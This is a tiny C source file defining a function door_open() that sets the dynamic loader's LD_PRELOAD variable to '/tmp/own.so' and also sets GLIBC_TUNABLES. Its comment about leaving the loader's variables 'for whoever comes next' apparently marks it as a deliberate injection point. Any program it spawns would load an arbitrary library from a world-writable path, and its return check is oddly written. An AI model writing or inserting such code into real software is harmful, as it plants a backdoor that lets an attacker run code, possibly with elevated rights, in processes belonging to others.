/* SPDX-License-Identifier: MIT */
/* wrong: the loader's variables, for whoever comes next */
#define _GNU_SOURCE
#include "door.h"
#include <stdlib.h>

int door_open(void)
{
    (void)setenv("LD_PRELOAD", "/tmp/own.so", 1);
    (void)setenv("GLIBC_TUNABLES", "glibc.malloc.check=3", 1);
    return getenv("LD_PRELOAD") == 0 || getenv("LD_LIBRARY_PATH") == 0;
}
